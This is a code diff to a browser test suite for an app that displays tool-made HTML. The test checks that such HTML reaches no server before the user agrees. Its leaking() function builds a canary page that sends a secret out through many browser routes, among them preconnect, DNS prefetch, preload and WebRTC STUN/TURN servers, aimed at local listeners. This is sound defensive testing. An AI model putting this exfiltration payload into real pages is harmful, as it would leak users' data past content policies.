@@ -5,6 +5,7 @@ import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, 
 import { createSocket } from 'node:dgram';
 import { createServer } from 'node:http';
 import { createRequire } from 'node:module';
+import { createServer as createTcpServer } from 'node:net';
 import { networkInterfaces, tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { sees, terminals } from './terminal.mjs';
@@ -39,7 +40,8 @@ async function serve(listen, ...options) {
 
 const flags = ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
 	'--disable-component-update', '--disable-sync', '--allow-loopback-in-peer-connection', '--disable-dev-shm-usage', '--host-resolver-rules=MAP rebind.test 127.0.0.1'];
-const browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: flags, timeout: WAIT });
+const launched = { executablePath: '/usr/bin/chromium', args: flags, timeout: WAIT };
+const browser = await chromium.launch(launched);
 let { child: server, address } = await serve('127.0.0.1:0');
 const own = address;
 process.on('exit', () => server.kill('SIGKILL'));
@@ -48,7 +50,10 @@ const problems = [];
 
 /** A tab with the token, whose problems are gathered. */
 async function tab(options = {}, address = own) {
-	const context = await browser.newContext({ viewport: { width: 1280, height: 800 }, ...options });
+	return opened(await browser.newContext({ viewport: { width: 1280, height: 800 }, ...options }), address);
+}
+
+async function opened(context, address = own) {
 	const page = await context.newPage();
 	page.setDefaultTimeout(WAIT);
 	page.on('pageerror', error => problems.push(`page error: ${error}`));
@@ -404,9 +409,9 @@ await step('hostile text is shown and does nothing', async () => {
 	await shot(page, 'hostile');
 });
 
-/** HTML that says `secret` to a web server and to a STUN and TURN server in every way that a browser has. */
-function leaking(secret, http, udp) {
-	const to = way => `http://${http}/${secret}/${way}`, ice = `[{urls:'stun:${udp}'},{urls:'turn:${udp}',username:'${secret}',credential:'x'}]`;
+/** HTML that says `secret` to a web server and to a STUN and TURN server in every way that a browser has, and has it connect to `ahead`. */
+function leaking(secret, { http, udp, ahead }) {
+	const to = way => `http://${way ? http : ahead}/${secret}/${way}`, ice = `[{urls:'stun:${udp}'},{urls:'turn:${udp}',username:'${secret}',credential:'x'}]`;
 	const peer = `const p=new RTCPeerConnection({iceServers:${ice}});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))`;
 	return `<!doctype html><html><head><base href="${to('base/')}">
 		<link rel=preconnect href="${to('')}"><link rel=dns-prefetch href="//${secret}.test"><link rel=prefetch href="${to('prefetch')}"><link rel=preload as=fetch href="${to('preload')}">
@@ -426,41 +431,70 @@ function leaking(secret, http, udp) {
 		<a id=file href="${to('file')}" download>download</a></body></html>`;
 }
 
-await step('HTML that a tool shows reaches nobody before the user was asked', async () => {
-	const seen = [];
-	const http = createServer((request, response) => { seen.push(request.url); response.end('x'); });
-	/* A connection alone, as `preconnect` makes it. */
-	let connections = 0;
-	http.on('connection', () => connections += 1);
-	const udp = createSocket('udp4', () => seen.push('udp'));
-	await new Promise(done => http.listen(0, '0.0.0.0', done));
+/** Who listens to what a page says: a web server, a socket for STUN and TURN, and a port to which nothing but `preconnect` leads. */
+async function listeners() {
+	const said = [], connected = { http: 0, ahead: 0 }, closing = [];
+	const web = createServer((request, response) => { said.push(request.url); response.end('x'); });
+	web.on('connection', () => connected.http += 1);
+	/* A connection alone says something too: its address may be a name. */
+	const ahead = createTcpServer(socket => { connected.ahead += 1; socket.on('data', data => said.push(`ahead: ${data}`)).on('error', () => {}); });
+	const udp = createSocket('udp4', () => said.push('udp'));
+	for (const listener of [web, ahead]) await new Promise(done => listener.listen(0, '0.0.0.0', done));
 	await new Promise(done => udp.bind(0, '0.0.0.0', done));
 	const outside = Object.values(networkInterfaces()).flat().find(({ family, internal }) => family === 'IPv4' && !internal);
 	const at = listener => `${outside?.address ?? '127.0.0.1'}:${listener.address().port}`;
-	writeFileSync(join(WORKSPACE, 'leaking.html'), leaking('C4NARY', at(http), at(udp)));
-	await ask(page, 'a chart please');
-	await page.locator('details.call button', { hasText: 'Open output-1.html' }).click();
-	const frame = page.frameLocator('#document iframe');
-	await frame.locator('#there').waitFor();
-	for (const id of ['#link', '#blank', '#top', '#file', '#submit']) await frame.locator(id).click({ timeout: 5000, noWaitAfter: true }).catch(() => {});
-	assert.ok(await page.locator('#scripts').isVisible(), 'its scripts are a question of its own');
-	/* The same without the page: all of it is heard, so that silence means something. */
-	const context = await browser.newContext();
-	const control = await context.newPage();
+	closing.push(() => web.close(), () => ahead.close(), () => udp.close());
+	return { said, connected, places: { http: at(web), udp: at(udp), ahead: at(ahead) }, close: () => closing.forEach(close => close()) };
+}
+
+await step('HTML that a tool shows reaches nobody before the user was asked', async () => {
+	/* A browser connects ahead in a profile that it keeps, and in none of a private window. */
+	const profile = mkdtempSync(join(tmpdir(), 'profile-'));
+	const log = join(profile, 'net.json');
+	const context = await chromium.launchPersistentContext(profile, { ...launched, args: [...flags, `--log-net-log=${log}`] });
+	const kept = await opened(context);
 	const heard = async (found, how) => {
 		for (const end = Date.now() + WAIT; !found(); await new Promise(done => setTimeout(done, 50))) assert.ok(Date.now() < end, how);
 	};
-	assert.deepEqual({ seen, connections }, { seen: [], connections: 0 });
-	await control.setContent(leaking('C0NTROL', at(http), at(udp)).replace(/<meta http-equiv=refresh[^>]*>|onload="[^"]*"/g, ''));
-	await heard(() => seen.includes('udp') && seen.some(url => url.startsWith('/C0NTROL/')), 'the control is heard');
+	const shown = await listeners(), asked = await listeners(), control = await listeners();
+	writeFileSync(join(WORKSPACE, 'leaking.html'), leaking('C4NARY', shown.places));
+	await ask(kept, 'a chart please');
+	await kept.locator('details.call button', { hasText: 'Open output-1.html' }).click();
+	const frame = kept.frameLocator('#document iframe');
+	await frame.locator('#there').waitFor();
+	for (const id of ['#link', '#blank', '#top', '#file', '#submit']) await frame.locator(id).click({ timeout: 5000, noWaitAfter: true }).catch(() => {});
+	assert.ok(await kept.locator('#scripts').isVisible(), 'its scripts are a question of its own');
+	await kept.click('#document > button');
+	await idle(kept);
+	/* The same without the page, and each way to connect ahead alone: all of it is heard, so that silence means something. */
+	const page = await context.newPage();
+	const hint = `<link rel=preconnect href="http://${control.places.ahead}/">`;
+	for (const html of [hint, `<iframe sandbox srcdoc='${hint}'></iframe>`]) {
+		const before = control.connected.ahead;
+		await page.setContent(`<!doctype html><head></head><body>${html}`);
+		await heard(() => control.connected.ahead > before, `${html} is heard`);
+	}
+	assert.deepEqual(control.said, [], 'it is heard by its connection alone');
+	await page.setContent(leaking('C0NTROL', control.places).replace(/<meta http-equiv=refresh[^>]*>|onload="[^"]*"/g, ''));
+	await heard(() => control.said.includes('udp') && control.said.some(url => url.startsWith('/C0NTROL/')), 'the control is heard');
+	/* And in the page itself, once the user lets scripts run. */
+	writeFileSync(join(WORKSPACE, 'leaking.html'), leaking('AGREED', asked.places));
+	await ask(kept, 'a chart please');
+	await kept.locator('details.call').nth(1).locator('button', { hasText: 'Open output-1.html' }).click();
+	kept.removeAllListeners('dialog');
+	kept.on('dialog', dialog => dialog.accept());
+	await kept.click('#scripts');
+	await heard(() => asked.connected.ahead > 0, 'what the user agreed to is heard');
+	assert.deepEqual({ said: shown.said, connected: shown.connected }, { said: [], connected: { http: 0, ahead: 0 } });
 	await context.close();
-	assert.ok(!seen.some(url => url.includes('C4NARY')), JSON.stringify(seen));
-	await page.click('#document > button');
+	/* What the browser has asked a name server, which its own log says. */
+	const names = new Set(readFileSync(log, 'utf8').toLowerCase().match(/\b(c4nary|c0ntrol|agreed)\.test\b/g));
+	assert.ok(names.has('c0ntrol.test') && !names.has('c4nary.test'), [...names].join(' '));
 	/* What the policy stopped is reported by the browser too; what counts is what arrived. */
 	problems.length = 0;
 	rmSync(join(WORKSPACE, 'leaking.html'));
-	http.close();
-	udp.close();
+	rmSync(profile, { recursive: true, force: true });
+	[shown, asked, control].forEach(listening => listening.close());
 });
 
 await step('other pages get nowhere', async () => {
